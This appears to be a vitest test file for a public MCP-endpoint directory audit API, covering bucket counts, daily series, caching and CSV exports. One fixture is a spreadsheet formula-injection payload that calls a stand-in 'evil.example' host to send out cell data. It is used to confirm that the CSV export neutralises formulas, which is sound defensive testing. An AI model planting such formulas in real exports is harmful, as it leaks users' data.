import { directoryAuditDays, insertResults } from '@mcpulse/db';
import { seedDirectoryCheck, seedDirectoryEndpoint } from '@mcpulse/db/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertMonitor, storedResult } from './support/read-fixtures.js';
import { createTestApp, signUpUser, type TestApp } from './support/test-app.js';

const NOW = new Date('2026-11-26T12:34:00Z');
const minutesAgo = (minutes: number) => new Date(NOW.getTime() - minutes * 60_000);

/** Registry text a spreadsheet would run as a formula. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")';

let t: TestApp;
let deadMonitorId: string;

const dead = (errorCode: string, httpStatus: number | null) => ({
  status: 'down' as const,
  errorCode,
  httpStatus,
  httpAlive: true,
});

beforeAll(async () => {
  t = await createTestApp({ now: () => NOW, directoryAuditTtlMs: 0 });
  const db = t.database.handle.db;
  const seed = (url: string, values: Omit<Parameters<typeof seedDirectoryEndpoint>[1], 'url'> = {}) =>
    seedDirectoryEndpoint(db, { url, ...values });

  await seed('https://a-up.example.com/mcp', {
    servers: ['io.example/up', FORMULA_NAME],
    checks: [{ slot: minutesAgo(5), status: 'up', protocolVersion: '+1+2' }],
  });
  await seed('https://b-degraded.example.com/mcp', { checks: [{ slot: minutesAgo(5), status: 'degraded' }] });
  // Up an hour ago, down since: its latest check counts.
  ({ monitorId: deadMonitorId } = await seed('https://c-dead.example.com/mcp', {
    servers: ['io.example/dead'],
    checks: [
      { slot: minutesAgo(60), status: 'up' },
      { slot: minutesAgo(5), ...dead('invalid_response', 200) },
    ],
  }));
  await seed('https://d-dead.example.com/mcp', {
    checks: [{ slot: minutesAgo(5), ...dead('http_error', 404) }],
  });
  await seed('https://e-dead.example.com/mcp', {
    checks: [{ slot: minutesAgo(5), ...dead('invalid_response', 200) }],
  });
  await seed('https://f-refused.example.com/mcp', {
    checks: [{ slot: minutesAgo(5), status: 'down', errorCode: 'connection_refused' }],
  });
  await seed('https://g-blocked.example.com/mcp', {
    checks: [{ slot: minutesAgo(5), status: 'down', errorCode: 'blocked_address' }],
  });
  await seed('https://h-awaiting.example.com/mcp');
  await seed('http://10.0.0.7/mcp', { skipReason: 'blocked_address' });
  await seed('https://retired.example.com/mcp', {
    skipReason: 'retired',
    checks: [{ slot: minutesAgo(5), ...dead('http_error', 500) }],
  });

  // A user's own failing monitor is no part of the directory.
  const owner = await signUpUser(t.app);
  const own = await insertMonitor(db, owner.organizationId);
  await insertResults(db, [storedResult(own, 'eu-west', minutesAgo(5), 'down', 10_000)]);

  await db.insert(directoryAuditDays).values([
    { day: '2026-11-24', bucket: 'mcp_up', errorCode: '', endpoints: 3 },
    { day: '2026-11-24', bucket: 'http_alive_mcp_dead', errorCode: 'invalid_response', endpoints: 1 },
    { day: '2026-11-25', bucket: 'mcp_up', errorCode: '', endpoints: 2 },
    { day: '2026-11-25', bucket: 'http_alive_mcp_dead', errorCode: 'http_error', endpoints: 1 },
    { day: '2026-11-25', bucket: 'http_alive_mcp_dead', errorCode: 'invalid_response', endpoints: 1 },
    // Before a 2-day series, after a 3-day one.
    { day: '2026-08-01', bucket: 'timeout', errorCode: 'timeout', endpoints: 9 },
  ]);
});

afterAll(async () => t?.close());

const get = (url: string, headers: Record<string, string> = {}) =>
  t.app.inject({ method: 'GET', url, headers });

describe('GET /api/v1/directory/audit', () => {
  it('answers anyone with each probed endpoint in the bucket of its latest check', async () => {
    const response = await get('/api/v1/directory/audit');
    expect(response.statusCode).toBe(200);
    const { asOf, now } = response.json();
    expect(asOf).toBe(NOW.toISOString());
    expect(now).toMatchObject({ listed: 10, probed: 8, checked: 7 });
    const counts = Object.fromEntries(
      now.buckets.map((bucket: { bucket: string; endpoints: number }) => [bucket.bucket, bucket.endpoints]),
    );
    expect(counts).toEqual({
      mcp_up: 2,
      http_alive_mcp_dead: 3,
      auth_required: 0,
      dns: 0,
      tls: 0,
      refused: 1,
      timeout: 0,
      blocked_address: 1,
    });
    expect(now.notProbed).toEqual([
      { reason: 'blocked_address', endpoints: 1 },
      { reason: 'retired', endpoints: 1 },
    ]);
  });

  it('makes "HTTP alive, MCP dead" the headline, split by error code, as shares of the checked endpoints', async () => {
    const { now } = (await get('/api/v1/directory/audit')).json();
    expect(now.headline).toEqual({
      bucket: 'http_alive_mcp_dead',
      endpoints: 3,
      share: 3 / 7,
      errorCodes: [
        { errorCode: 'invalid_response', endpoints: 2, share: 2 / 7 },
        { errorCode: 'http_error', endpoints: 1, share: 1 / 7 },
      ],
    });
    expect(now.buckets.find((bucket: { bucket: string }) => bucket.bucket === 'tls')).toEqual({
      bucket: 'tls',
      endpoints: 0,
      share: 0,
      errorCodes: [],
    });
  });

  it('carries the daily series of the last `days` UTC days, oldest first', async () => {
    const { days } = (await get('/api/v1/directory/audit?days=3')).json();
    expect(days.map((day: { day: string }) => day.day)).toEqual(['2026-11-24', '2026-11-25']);
    const [, yesterday] = days;
    expect(yesterday.checked).toBe(4);
    expect(yesterday.buckets[0]).toEqual({
      bucket: 'mcp_up',
      endpoints: 2,
      share: 0.5,
      errorCodes: [{ errorCode: '', endpoints: 2, share: 0.5 }],
    });
    expect(yesterday.buckets[1].errorCodes).toEqual([
      { errorCode: 'http_error', endpoints: 1, share: 0.25 },
      { errorCode: 'invalid_response', endpoints: 1, share: 0.25 },
    ]);
    expect((await get('/api/v1/directory/audit?days=2')).json().days).toHaveLength(1);
    expect((await get('/api/v1/directory/audit')).json().days).toHaveLength(2);
    expect((await get('/api/v1/directory/audit?days=366')).json().days).toHaveLength(3);
  });

  it('refuses a bad `days` with a 400 naming it', async () => {
    for (const days of ['0', '367', 'soon', '1.5']) {
      const response = await get(`/api/v1/directory/audit?days=${days}`);
      expect(response.statusCode).toBe(400);
      expect(response.json().error.field).toBe('days');
    }
  });

  it('sends an ETag and Cache-Control, answers a current If-None-Match with a bodiless 304, and a new check with a new tag', async () => {
    const first = await get('/api/v1/directory/audit');
    const etag = first.headers.etag as string;
    expect(etag).toMatch(/^"[\w-]+"$/);
    expect(first.headers['cache-control']).toBe('public, max-age=60');

    const again = await get('/api/v1/directory/audit', { 'if-none-match': etag });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe('');
    expect(again.headers.etag).toBe(etag);
    expect(again.headers['cache-control']).toBe('public, max-age=60');
    expect((await get('/api/v1/directory/audit', { 'if-none-match': `"other", W/${etag}` })).statusCode).toBe(
      304,
    );
    // Another series is another representation.
    expect((await get('/api/v1/directory/audit?days=2', { 'if-none-match': etag })).statusCode).toBe(200);

    await seedDirectoryCheck(t.database.handle.db, deadMonitorId, { slot: minutesAgo(1), status: 'up' });
    const changed = await get('/api/v1/directory/audit', { 'if-none-match': etag });
    expect(changed.statusCode).toBe(200);
    expect(changed.headers.etag).not.toBe(etag);
    expect(changed.json().now.headline.endpoints).toBe(2);
    await seedDirectoryCheck(t.database.handle.db, deadMonitorId, {
      slot: minutesAgo(0.5),
      ...dead('invalid_response', 200),
    });
  });
});

describe('the CSV exports', () => {
  it('lists every endpoint URL with its outcome, and guards registry and server text against formulas', async () => {
    const response = await get('/api/v1/directory/audit/endpoints.csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="mcpulse-directory-endpoints.csv"',
    );
    expect(response.headers['cache-control']).toBe('public, max-age=60');
    const lines = response.body.split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toBe(
      'url,host,servers,transport,auth_requirement,probed,skip_reason,bucket,bucket_label,status,error_code,http_status,http_alive,era,protocol_version,tool_count,checked_at',
    );
    expect(lines).toHaveLength(12);
    expect(lines.slice(1, -1)).toEqual([...lines.slice(1, -1)].sort());
    const line = (url: string) => lines.find((text) => text.startsWith(`${url},`));
    // The entry names are joined in name order: the formula one first, so the field starts with it.
    expect(line('https://a-up.example.com/mcp')).toBe(
      `https://a-up.example.com/mcp,a-up.example.com,"'=HYPERLINK(""http://evil.example/?""&A1,""click"") io.example/up",streamable-http,none,true,,mcp_up,MCP up,up,,,true,legacy,'+1+2,2,${new Date(minutesAgo(5).getTime() + 1_000).toISOString()}`,
    );
    expect(line('https://c-dead.example.com/mcp')).toMatch(
      /^https:\/\/c-dead\.example\.com\/mcp,c-dead\.example\.com,io\.example\/dead,streamable-http,none,true,,http_alive_mcp_dead,"HTTP alive, MCP dead",down,invalid_response,200,true,,,,/,
    );
    expect(lines).toContain(
      'https://h-awaiting.example.com/mcp,h-awaiting.example.com,,streamable-http,none,true,,,,,,,,,,,',
    );
    expect(lines).toContain(
      'http://10.0.0.7/mcp,10.0.0.7,,streamable-http,none,false,blocked_address,,,,,,,,,,',
    );
    expect(lines).toContain(
      'https://retired.example.com/mcp,retired.example.com,,streamable-http,none,false,retired,,,,,,,,,,',
    );

    const etag = response.headers.etag as string;
    const again = await get('/api/v1/directory/audit/endpoints.csv', { 'if-none-match': etag });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe('');
  });

  it('exports the daily series, one row per day, bucket and error code', async () => {
    const response = await get('/api/v1/directory/audit/days.csv?days=3');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.body).toBe(
      [
        'day,bucket,bucket_label,error_code,endpoints,share,checked',
        '2026-11-24,mcp_up,MCP up,,3,0.75,4',
        '2026-11-24,http_alive_mcp_dead,"HTTP alive, MCP dead",invalid_response,1,0.25,4',
        '2026-11-25,mcp_up,MCP up,,2,0.5,4',
        '2026-11-25,http_alive_mcp_dead,"HTTP alive, MCP dead",http_error,1,0.25,4',
        '2026-11-25,http_alive_mcp_dead,"HTTP alive, MCP dead",invalid_response,1,0.25,4',
        '',
      ].join('\r\n'),
    );
    expect(response.headers.etag).toMatch(/^"[\w-]+"$/);
    expect((await get('/api/v1/directory/audit/days.csv?days=x')).json().error.field).toBe('days');
  });
});

describe('the OpenAPI document', () => {
  it('publishes the audit, its exports as text/csv, and needs no credentials for them', async () => {
    const doc = (await get('/docs/json')).json();
    const audit = doc.paths['/api/v1/directory/audit'].get;
    expect(audit.security).toEqual([]);
    expect(Object.keys(audit.responses)).toEqual(expect.arrayContaining(['200', '304', '400']));
    for (const path of ['/api/v1/directory/audit/endpoints.csv', '/api/v1/directory/audit/days.csv']) {
      const csv = doc.paths[path].get;
      expect(csv.security).toEqual([]);
      expect(Object.keys(csv.responses['200'].content)).toEqual(['text/csv']);
    }
  });
});
